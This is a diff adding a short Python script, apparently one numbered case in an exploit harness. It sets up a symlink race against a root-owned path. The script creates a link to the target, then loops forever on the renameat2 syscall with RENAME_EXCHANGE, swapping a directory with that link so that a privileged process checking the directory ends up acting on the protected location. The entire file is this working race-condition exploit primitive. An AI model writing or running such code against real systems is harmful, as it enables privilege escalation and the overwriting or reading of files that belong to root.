@@ -1,0 +1,15 @@
+"""C16: argv = a folder, a place that belongs to root. Swaps the folder `d` in it with a link to that place, for ever."""
+import time
+from lib import *
+
+folder, target = sys.argv[1], sys.argv[2]
+os.chdir(folder)
+os.makedirs("real", exist_ok=True)
+os.symlink(target, "link")
+os.rename("real", "d")
+RENAME_EXCHANGE = 2
+AT_FDCWD = -100
+print("done", flush=True)
+while True:
+    syscall(316, AT_FDCWD, ctypes.c_char_p(b"d"), AT_FDCWD, ctypes.c_char_p(b"link"), RENAME_EXCHANGE)
+    os.makedirs("d/e", exist_ok=True) if not os.path.islink("d") else None
